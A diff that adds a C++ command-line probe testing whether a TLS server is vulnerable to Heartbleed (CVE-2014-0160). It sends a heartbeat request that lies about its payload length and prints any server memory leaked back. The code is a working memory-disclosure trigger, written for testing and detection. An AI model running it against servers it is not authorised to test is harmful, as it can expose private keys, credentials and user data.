@@ -1,0 +1,130 @@
+// glass heartbleed HOST:PORT — does this server check a HeartbeatRequest's
+// payload_length (RFC 6520 §4)? It agrees heartbeats, proves them with an
+// honest request, then sends one that claims 16 KiB but carries one byte.
+// A correct server discards it silently; a vulnerable one (CVE-2014-0160,
+// or glass server --heartbleed-demo) answers with memory it was never sent.
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <chrono>
+#include <iostream>
+
+#include "cli.hpp"
+#include "glasstls/handshake_client.hpp"
+#include "net.hpp"
+
+namespace glass {
+
+namespace {
+using namespace glasstls;
+
+const char* kUsage =
+    "usage: glass heartbleed HOST:PORT [--servername NAME] [--claim BYTES] [--timeout SECONDS]\n"
+    "Tests whether the server leaks memory through heartbeats (Heartbleed, CVE-2014-0160).\n"
+    "The server's certificate is not verified: this is a probe, not a client to trust.\n"
+    "Exit 0: nothing leaked (heartbeats unsupported, or the lie discarded); 1: the server\n"
+    "LEAKED bytes (shown); 2: it could not be tested.\n";
+
+// Reads and feeds until `done` or `ms` pass; false when the connection ended.
+bool wait_for(Connection& c, int fd, int ms, const std::function<bool()>& done) {
+    const auto until = std::chrono::steady_clock::now() + std::chrono::milliseconds(ms);
+    std::uint8_t buf[16384];
+    while (!done()) {
+        const Bytes out = c.take_output();
+        if (!out.empty() && !write_all(fd, out.data(), out.size())) return false;
+        const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(until - std::chrono::steady_clock::now()).count();
+        if (left <= 0) return true;
+        pollfd p{fd, POLLIN, 0};
+        if (poll(&p, 1, static_cast<int>(left)) <= 0) continue;
+        const ssize_t r = recv(fd, buf, sizeof buf, 0);
+        if (r <= 0) return false;
+        c.receive({buf, static_cast<std::size_t>(r)});
+    }
+    const Bytes out = c.take_output();
+    return out.empty() || write_all(fd, out.data(), out.size());
+}
+
+void show(const Bytes& leaked) {
+    std::cout << "  what came back, beyond the 1 byte we sent (" << leaked.size() - 1 << " bytes):\n";
+    std::string line;
+    for (std::size_t i = 1; i < leaked.size(); ++i) {
+        const unsigned char c = leaked[i];
+        line += c == '\n' ? std::string("\n  | ") : c == '\r' ? std::string() : (c >= 32 && c < 127) ? std::string(1, static_cast<char>(c)) : ".";
+        if (line.size() > 1500) {
+            line += "\n  | … (the rest not shown)";
+            break;
+        }
+    }
+    std::cout << "  | " << line << "\n";
+}
+
+} // namespace
+
+int cmd_heartbleed(const std::vector<std::string>& argv) {
+    Args args(argv, {"help"}, {"servername", "claim", "timeout"});
+    if (args.flag("help")) {
+        std::cout << kUsage;
+        return 0;
+    }
+    if (args.positional().size() != 1) throw UsageError("give one HOST:PORT");
+    const HostPort where = parse_host_port(args.positional()[0]);
+    const std::size_t claim = std::min<std::size_t>(args.get_size("claim", 16000), 16365);
+    const int timeout_ms = static_cast<int>(args.get_size("timeout", 3)) * 1000;
+    ClientConfig config;
+    config.server_name = args.get("servername").value_or(where.host);
+    config.verify_peer = false;
+    config.offer_heartbeat = true;
+    int fd;
+    try {
+        fd = connect_tcp(where);
+    } catch (const std::exception& e) {
+        std::cerr << "glass heartbleed: " << e.what() << "\n";
+        return 2;
+    }
+    Connection conn(crypto::system_random(), nullptr);
+    conn.set_engine(std::make_unique<ClientHandshake>(conn, config));
+    try {
+        conn.start();
+        if (!wait_for(conn, fd, 10000, [&] { return conn.handshake_done(); }) || !conn.handshake_done()) {
+            std::cout << "COULD NOT TEST: the TLS 1.2 handshake did not complete\n";
+            close(fd);
+            return 2;
+        }
+        if (!conn.info().heartbeat) {
+            std::cout << "NOT SUPPORTED: the server did not agree to heartbeats (no heartbeat extension in its ServerHello, RFC 6520 §2):\n"
+                      << "nothing to bleed.\n";
+            close(fd);
+            return 0;
+        }
+        conn.send_heartbeat(as_bytes("honest"));
+        wait_for(conn, fd, timeout_ms, [&] { return false; });
+        const std::vector<Bytes> honest = conn.take_heartbeat_responses();
+        if (honest.empty()) {
+            std::cout << "COULD NOT TEST: the server agreed to heartbeats but did not answer an honest one\n";
+            close(fd);
+            return 2;
+        }
+        std::cout << "The server agreed to heartbeats and answered an honest one ('honest', 6 bytes).\n"
+                  << "Now a HeartbeatRequest that claims " << claim << " bytes of payload but carries 1 ...\n";
+        conn.send_heartbeat(as_bytes("A"), static_cast<std::uint16_t>(claim));
+        const bool open = wait_for(conn, fd, timeout_ms, [&] { return false; });
+        const std::vector<Bytes> lie = conn.take_heartbeat_responses();
+        close(fd);
+        if (!lie.empty() && lie[0].size() > 1) {
+            std::cout << "LEAKED: the server answered with " << lie[0].size() << " bytes for the 1 it was sent: it copied memory it was\n"
+                      << "never given — it does not check payload_length against the record (RFC 6520 §4; CVE-2014-0160).\n";
+            show(lie[0]);
+            return 1;
+        }
+        std::cout << "DISCARDED (safe): " << (open ? "no answer" : "the server closed the connection")
+                  << " — the request that lied about its length was discarded, as RFC 6520 §4 requires.\n";
+        return 0;
+    } catch (const TlsError& e) {
+        std::cout << "COULD NOT TEST: " << e.describe() << "\n";
+        close(fd);
+        return 2;
+    }
+}
+
+} // namespace glass
